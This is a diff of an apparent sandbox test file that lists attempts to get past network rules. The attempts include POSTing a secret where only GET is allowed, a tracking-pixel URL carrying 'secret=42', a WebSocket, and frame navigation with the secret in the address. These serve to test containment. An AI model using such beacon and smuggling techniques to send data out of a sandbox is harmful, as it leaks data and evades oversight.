@@ -1,10 +1,13 @@
+const server = 'http://EXAMPLE_SERVER'
+
 export const attempts = [
-  { name: 'Read a virtual file, /wisdom.json', run: async () => (await (await fetch('/wisdom.json')).json()).text },
-  { name: 'Fetch what a rule allows, localhost:8000/hello', run: async () => (await fetch('http://localhost:8000/hello')).text() },
+  { name: 'Read a file of its own, /wisdom.json', run: async () => (await (await fetch('/wisdom.json')).json()).text },
+  { name: 'Fetch what a rule allows, EXAMPLE_SERVER', run: async () => (await fetch(`${server}/hello`)).text() },
+  { name: 'Post a secret there, where the rule says GET', run: async () => (await fetch(`${server}/hello`, { method: 'POST', body: 'secret=42' })).text() },
   { name: 'Fetch what no rule allows, example.org', run: async () => (await fetch('https://example.org/')).text() },
   { name: 'Load a tracking picture from example.com', run: () => picture('https://pixel.example.com/1.gif?secret=42') },
   { name: 'Open a WebSocket', run: () => socket('wss://echo.example.org') },
-  { name: 'Navigate away with a secret in the address', run: () => navigate('https://example.org/?secret=42') },
+  { name: 'Navigate a frame away, a secret in its address', run: () => navigate('https://example.org/?secret=42') },
 ]
 
 function picture(src) {
